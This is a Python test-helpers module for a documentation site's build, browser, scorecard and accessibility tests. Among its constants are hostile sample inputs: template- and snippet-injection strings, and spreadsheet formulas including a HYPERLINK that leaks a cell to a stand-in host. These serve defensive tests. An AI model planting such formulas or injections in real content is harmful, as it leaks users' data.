"""Helpers shared by the test modules (fixtures live in conftest.py): building a copy of the
project, a browser context cut off from other hosts, driving the walk and the scorecard as a
reader does, axe-core's settings, and a copy of the data with one change in it."""

from __future__ import annotations

import datetime as dt
import fcntl
import functools
import os
import pickle
import shutil
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml
from bs4 import BeautifulSoup

from guide.data.models import Guide
from guide.data.validate import check_data
from guide.views.sitescripts import rule_data
from js.cases import expected_contributions, expected_ranking
from chromium_switches import CHROMIUM_ARGS, NO_OMNIBOX_POPUPS, PLAYWRIGHT_DISABLED_FEATURES  # noqa: F401  (tests import them from here)
from static_server import StaticServer  # noqa: F401  (tests import it from here)

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
# `make test-fast`: tests that build the site or start a browser skip themselves.
FAST = os.environ.get("GUIDE_TESTS") == "fast"
TODAY = dt.date(2026, 11, 25)


# --- text, builds and copies ---------------------------------------------------------------------


def shown(text: str) -> str:
    """What a reader sees of data text: backticks become code formatting, spaces collapse."""
    return " ".join(text.split()).replace("`", "")


def build_site(project: Path, site_dir: Path, *extra: str, tool: str = "mkdocs") -> subprocess.CompletedProcess:
    """``<tool> build --strict`` (MkDocs, or ProperDocs) of ``project`` into ``site_dir``; the
    result, never raising."""
    if FAST:
        pytest.skip("builds the site: `make test` runs it")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "DISABLE_MKDOCS_2_WARNING": "true"}
    return subprocess.run(
        [sys.executable, "-m", tool, "build", "--strict", "--site-dir", str(site_dir), *extra],
        cwd=project, capture_output=True, text=True, env=env,
    )


def once_per_run(tmp_path_factory, name: str, make):
    """``make(folder)``'s result, made once per test run: under pytest-xdist (``make test`` runs
    two workers) the first worker to ask makes it under a lock, the others reuse its folder and
    its (pickled) result. A failure is not shared: the next worker to ask tries again."""
    if "PYTEST_XDIST_WORKER" not in os.environ:
        return make(tmp_path_factory.mktemp(name))
    shared = tmp_path_factory.getbasetemp().parent
    with open(shared / f"{name}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        folder, made = shared / name, shared / f"{name}.pickle"
        if not made.exists():
            shutil.rmtree(folder, ignore_errors=True)
            folder.mkdir()
            made.write_bytes(pickle.dumps(make(folder)))
        return pickle.loads(made.read_bytes())


@functools.cache
def parsed_page(path: Path) -> BeautifulSoup:
    """A built page, parsed once per test process: a build does not change once made, and several
    tests read every page of the same build. Read the tree; never change it."""
    return BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")


def copy_project(destination: Path) -> Path:
    """A copy of the project (without build output and installs) for builds from altered data."""
    ignore = shutil.ignore_patterns(".venv", "node_modules", "site", "site.partial", ".git", "__pycache__", ".pytest_cache")
    shutil.copytree(ROOT, destination, ignore=ignore)
    (destination / "node_modules").symlink_to(ROOT / "node_modules")
    return destination


class _WrittenOut(yaml.SafeDumper):
    """Writes a value used twice out twice: data files may not hold anchors and aliases."""

    def ignore_aliases(self, data):
        return True


def dump_yaml(data) -> str:
    return yaml.dump(data, Dumper=_WrittenOut, sort_keys=False, allow_unicode=True)


class FakeLinks:
    """Links for renderer tests: page paths as absolute URLs, titles made up."""

    def href(self, page, anchor=None):
        return f"/{page}" + (f"#{anchor}" if anchor else "")

    def title(self, page):
        return f"Title of {page}"


# Text a hostile contributor might write where text goes (conftest's ``hostile_site`` build).
HOSTILE = 'p99 < 50 ms | {{ 7*7 }} {% if true %}x{% endif %} & --8<-- "README.md" *not bold*'
HOSTILE_TITLE = "Perf < fast | {{ 1+1 }} *x*"
FORMULAS = ['=HYPERLINK("https://example.invalid/?leak="&A1,"More")', "+1 to the other", "-1 against it", "@SUM(A1:A9)"]


# --- a browser cut off from other hosts ----------------------------------------------------------


class Offline:
    """What a page tried to load from other hosts, and what it logged as errors."""

    def __init__(self):
        self.blocked: list[str] = []
        self.console_errors: list[str] = []


LOOPBACK = ("127.0.0.1", "localhost", "::1")


def offline_context(browser, **options):
    """A browser context whose requests to other hosts are recorded (the browser, launched with
    CHROMIUM_ARGS, lets only loopback addresses answer)."""
    context = browser.new_context(**options)
    record = Offline()

    def request(request):
        if not request.url.startswith(("data:", "blob:")) and urlsplit(request.url).hostname not in LOOPBACK:
            record.blocked.append(request.url)

    context.on("request", request)
    return context, record


def url_path(path: str) -> str:
    """The address a reader uses for a built file: folders, not index.html."""
    return path.removesuffix("index.html")


def origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


# What a reader's console would show on a page behind the real server (its Content-Security-Policy
# applied): CSP violations (reported by the page itself), console errors, uncaught exceptions, and
# with ``own`` given, requests to any other origin (another port on loopback included) and failed
# requests.
REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", e => window.guideViolation(
  `on ${location.pathname}: ${e.effectiveDirective} blocked ${e.blockedURI || "inline"} at ${e.sourceFile}:${e.lineNumber} ${e.sample}`));
"""
LATE_LOADS = """() => new Promise(done => {
  scrollTo(0, document.documentElement.scrollHeight);
  requestAnimationFrame(() => requestIdleCallback(done, {timeout: 3000}));
})"""


def watch(context, page, own: str | None = None) -> list[str]:
    """The list the problems of ``page`` (in ``context``, before its first load) are appended to."""
    problems: list[str] = []
    context.expose_function("guideViolation", lambda text: problems.append(f"CSP: {text}"))
    context.add_init_script(REPORT_VIOLATIONS)

    def console(message):
        if message.type == "error":
            problems.append(f"console on {urlsplit(page.url).path}: {message.text} ({message.location.get('url')})")

    def request(sent):
        if not sent.url.startswith(("data:", "blob:")) and origin(sent.url) != own:
            problems.append(f"request to another origin: {sent.url}")

    def response(received):
        if received.status >= 400:
            problems.append(f"failed request: {received.status} {received.url}")

    page.on("console", console)
    page.on("pageerror", lambda error: problems.append(f"page error: {error}"))
    if own:
        context.on("request", request)
        context.on("response", response)
    return problems


def load_all_of(page, url: str):
    """Load ``url`` and what loads later: the load event, then the scripts that wait for the
    reader to scroll or for a quiet moment, then everything asked for so far and anything asked
    within 0.5 s (network idle)."""
    page.goto(url)
    page.evaluate(LATE_LOADS)
    page.wait_for_load_state("networkidle")


def tab_to(page, selector: str, limit: int = 200):
    """Press Tab until the focused element matches ``selector``; fail after ``limit`` presses."""
    for _ in range(limit):
        page.keyboard.press("Tab")
        if page.evaluate("s => !!document.activeElement && document.activeElement.matches(s)", selector):
            return
    raise AssertionError(f"Tab never reached {selector}")


# --- the decision walk and the scorecard in a browser ---------------------------------------------

VISIBLE_STEP = ".guide-walk__step:not([hidden])"
PHONE = {"width": 390, "height": 844}
DESKTOP = {"width": 1280, "height": 800}


READY = ".guide-walk[data-walk-ready]"  # walk.js has taken over


def open_walk(page, url: str):
    page.goto(url)
    page.wait_for_selector(READY)


def visible_node(page) -> str:
    return page.get_attribute(VISIBLE_STEP, "data-node")


def settled(page):
    page.wait_for_selector(".guide-walk:not([data-walk-settling])")


def answer(page, index: int):
    """Click an answer as a reader does: after the last step has settled (see one activation)."""
    settled(page)
    page.locator(f"{VISIBLE_STEP} .guide-walk__answer").nth(index).click()


def expected_view(guide: Guide, weights):
    """What the page must show, computed with the methodology's rule: each framework's rank and
    score, then for each framework behind the leader the criteria with the largest shares of the
    gap in the leader's favour and in its own (three of each at most)."""
    data = rule_data(guide)
    ranked = expected_ranking(data, weights)
    rows = []
    for entry in ranked:
        tied = sum(1 for other in ranked if other["rank"] == entry["rank"]) > 1
        rows.append((entry["id"], f"{entry['rank']} (tied)" if tied else str(entry["rank"]), float(entry["shown"])))
    pairs = []
    for other in ranked[1:]:
        found = expected_contributions(data, weights, ranked[0]["id"], other["id"])
        pairs.append((ranked[0]["id"], other["id"], [c for c, v in found if v > 0][:3], [c for c, v in found if v < 0][:3]))
    return rows, pairs


def shown_view(page):
    rows = page.eval_on_selector_all(
        ".guide-scorecard__results tbody tr",
        """rows => rows.map(row => [row.dataset.framework, row.querySelector('.guide-scorecard__rank').textContent,
                                   parseFloat(row.querySelector('.guide-scorecard__score').textContent)])""",
    )
    pairs = page.eval_on_selector_all(
        ".guide-scorecard__pair",
        """pairs => pairs.map(pair => {
            const ids = id => [...pair.querySelectorAll(`[data-favours="${id}"] li`)].map(li => li.dataset.criterion);
            return [pair.dataset.leader, pair.dataset.other, ids(pair.dataset.leader), ids(pair.dataset.other)];
        })""",
    )
    return rows, pairs


def assert_shows(page, guide, weights):
    (rows, pairs), (want_rows, want_pairs) = shown_view(page), expected_view(guide, weights)
    assert [row[0:2] for row in rows] == [list(row[0:2]) for row in want_rows]
    for got, want in zip(rows, want_rows):
        assert abs(got[2] - want[2]) <= 0.05 + 1e-9
    assert pairs == [list(pair) for pair in want_pairs]


def open_scorecard(page, url):
    page.goto(url)
    page.wait_for_selector(".guide-scorecard__app:not([hidden])")


# --- axe-core ------------------------------------------------------------------------------------

AXE = ROOT / "node_modules" / "axe-core" / "axe.min.js"
AXE_OPTIONS = {
    "runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]},
    "rules": {"aria-dialog-name": {"enabled": True}},
    "resultTypes": ["violations"],
    "iframes": False,
}
SCHEMES = {"light": "default", "dark": "slate"}

def describe(page: str, combination: str, violation: dict) -> list[str]:
    lines = []
    for node in violation["nodes"]:
        summary = " ".join((node.get("failureSummary") or "").split())
        snippet = " ".join(node["html"].split())[:200]
        lines.append(f"{page} [{combination}] {violation['id']} ({violation.get('impact')}): "
                     f"{' >> '.join(map(str, node['target']))}\n    {snippet}\n    {summary[:300]}")
    return lines


def settle(page, scheme: str):
    """Wait until the palette is applied and no CSS transition is still running (Material fades
    its tabs in; mid-fade colours are not what a reader sees). Pages without Material's palette
    attribute (the standalone export) wait for the transitions only."""
    page.wait_for_function(
        """s => (!document.body.hasAttribute('data-md-color-scheme') || document.body.getAttribute('data-md-color-scheme') === s)
               && document.getAnimations().every(a => a.playState !== 'running')""",
        arg=scheme, timeout=10000,
    )


# --- a copy of the data with one change ------------------------------------------------------------


FIXTURES = ROOT / "tests" / "fixtures"


class DataCopy:
    """A copy of the fixture data set (tests/fixtures/: data/ frozen for these tests, and a stand-in
    for each page it names) for a test to change: the real data can change without breaking a test
    that asserts a line and a message."""

    def __init__(self, tmp_path: Path):
        self.root = tmp_path
        shutil.copytree(FIXTURES / "data", tmp_path / "data")
        shutil.copytree(FIXTURES / "docs", tmp_path / "docs")

    def edit(self, file: str, old: str, new: str, count: int = 1) -> int:
        """Replace the first ``count`` occurrences; return the 1-based line of the first new text."""
        path = self.root / "data" / file
        text = path.read_text(encoding="utf-8")
        assert old in text, f"{old!r} not found in {file}"
        start = text.index(old)
        path.write_text(text.replace(old, new, count), encoding="utf-8")
        return text[:start].count("\n") + 1

    def line_of(self, file: str, needle: str, occurrence: int = 1) -> int:
        text = (self.root / "data" / file).read_text(encoding="utf-8")
        index = -1
        for _ in range(occurrence):
            index = text.index(needle, index + 1)
        return text[:index].count("\n") + 1

    def problems(self, today: dt.date = TODAY):
        guide, problems = check_data(self.root / "data", self.root / "docs", today=today, display_root=self.root)
        return guide, problems

    def messages(self, today: dt.date = TODAY) -> list[str]:
        return [str(p) for p in self.problems(today)[1] if p.severity == "error"]
